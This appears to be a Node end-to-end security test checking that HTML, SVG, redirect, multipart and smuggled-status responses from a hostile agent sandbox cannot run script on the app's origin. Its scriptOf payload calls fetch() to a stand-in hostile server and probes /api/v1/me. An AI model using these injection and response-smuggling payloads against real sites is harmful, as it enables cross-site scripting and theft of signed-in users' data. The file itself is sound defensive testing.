// A signed-in browser opens the answers of a hostile sandbox: none of its scripts runs on the page's origin.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Hostile, answerOf } from '../e2e/support/hostile.mjs';
import { signIn } from '../e2e/support/session.mjs';
import { APP, launchBrowser, visit } from './browser.mjs';

let browser;
let hostile;
let context;

before(async () => {
  browser = await launchBrowser();
  hostile = await Hostile.start();
  context = await browser.newContext();
  const [name, value] = (await signIn(hostile.user.id)).split('=');
  await context.addCookies([{ name, value, url: APP, httpOnly: true, sameSite: 'Lax' }]);
});

after(async () => {
  await browser?.close();
  await hostile?.close();
});

/** A script that runs reports its origin to the hostile server. */
const scriptOf = (id) => `fetch("${hostile.url}/ran?${id}&" + self.origin, { mode: "no-cors" }); fetch("/api/v1/me").then(() => fetch("${hostile.url}/read?${id}", { mode: "no-cors" }))`;

function answers(id) {
  const html = `<!doctype html><title>${id}</title><script>${scriptOf(id)}</script><p>shown`;
  const inner = answerOf(200, ['Content-Type: text/html'], html);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${scriptOf(id).replaceAll('&', '&amp;')}</script></svg>`;
  return {
    'a page': inner,
    'a page behind a 101': `HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: x\r\n\r\n${inner}`,
    'a page behind many a 103': `${'HTTP/1.1 103 Early Hints\r\nLink: </x>; rel=preload\r\n\r\n'.repeat(40)}${inner}`,
    'a page with status 600': answerOf(600, ['Content-Type: text/html'], html),
    'a page with status 404': answerOf(404, ['Content-Type: text/html', 'Content-Security-Policy: default-src *'], html),
    'a redirect to a script': answerOf(302, [`Location: data:text/html,${encodeURIComponent(html)}`], ''),
    'a picture with a script': answerOf(200, ['Content-Type: image/svg+xml'], svg),
    'parts': answerOf(200, ['Content-Type: multipart/x-mixed-replace; boundary=b'], `--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--\r\n`),
    'a document': answerOf(200, ['Content-Type: application/pdf', 'Content-Disposition: inline'], `%PDF-1.4 ${html}`),
    'JSON that is a page': answerOf(200, ['Content-Type: application/json'], html),
    'no type': answerOf(200, [], html),
  };
}

test('no script from a sandbox runs on the page\'s origin', async () => {
  let id = 0;
  for (const route of [...hostile.routes.filter((one) => /^\/api\/(file\/download\?|bash\/bash_events\/search)/.test(one)), `${hostile.conversation}/workspace/x.html`]) {
    for (const what of Object.keys(answers(0))) {
      id += 1;
      hostile.answer = answers(id)[what];
      const page = await context.newPage();
      // A download is not a navigation.
      const failed = await visit(page, `${APP}/agent${route}`);
      if (failed) assert.match(failed.message, /Download is starting|net::ERR_ABORTED|ERR_INVALID/, `${route}, ${what}`);
      await page.waitForLoadState('load');
      await page.close();
    }
  }
  const origins = hostile.heard.filter((target) => target.startsWith('/ran?')).map((target) => target.split('&')[1]);
  assert.deepEqual(origins.filter((origin) => origin !== 'null'), [], 'what runs has an origin of its own');
  assert.deepEqual(hostile.heard.filter((target) => target.startsWith('/read?')), [], 'and reads nothing of the page\'s');
  const page = await context.newPage();
  assert.equal(await visit(page, `${APP}/`), undefined);
  assert.equal((await page.evaluate(() => fetch('/api/v1/me').then((answer) => answer.status))), 200, 'the browser is still signed in');
});
